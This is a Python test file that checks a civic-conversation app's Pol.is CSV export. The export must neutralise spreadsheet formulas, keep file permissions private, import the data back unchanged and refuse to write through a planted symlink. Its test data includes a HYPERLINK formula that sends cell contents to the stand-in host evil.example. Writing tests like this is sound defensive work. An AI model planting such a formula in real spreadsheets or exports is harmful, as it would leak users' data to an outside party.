"""Pol.is folders written from the store: safe in a spreadsheet, private, and read back the same."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest

from groundswell.actions.conversation_polis import do_import_polis, export_polis
from groundswell.actions.conversations import do_open_conversation, statements
from groundswell.actions.votes import do_vote
from groundswell.app import App
from groundswell.errors import InvalidInput

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "-5 minutes is enough", "@everyone"]


def test_finding_8_polis_export_neutralises_formula_statements_and_imports_them_back(
    db_app: App, tmp_path: Path
):
    slug = do_open_conversation(db_app, topic="+Walks", question="=Where?", seeds=FORMULAS).slug
    for tid in range(len(FORMULAS)):
        do_vote(db_app, slug, "v1", tid, -1)
    out = tmp_path / "out"
    paths = export_polis(db_app, slug, out)
    with (out / "comments.csv").open(newline="", encoding="utf-8") as handle:
        bodies = [row["comment-body"] for row in csv.DictReader(handle)]
    with (out / "votes.csv").open(newline="", encoding="utf-8") as handle:
        votes = [row["vote"] for row in csv.DictReader(handle)]
    assert bodies == ["'" + text for text in FORMULAS] and votes == ["-1", "-1", "-1"]
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in paths)
    again = do_import_polis(db_app, out, slug="again")
    assert (again.topic, again.question) == ("+Walks", "=Where?")
    assert [s.text for s in statements(db_app, again.slug)] == FORMULAS


def test_finding_low_polis_export_never_writes_through_a_planted_symlink(app: App, tmp_path: Path):
    slug = do_open_conversation(app, topic="Walks", question="Where?", seeds=["Canal paths"]).slug
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("keep me")
    (out / "votes.csv").symlink_to(victim)
    with pytest.raises(InvalidInput, match=r"votes\.csv is a symbolic link"):
        export_polis(app, slug, out)
    assert victim.read_text() == "keep me"
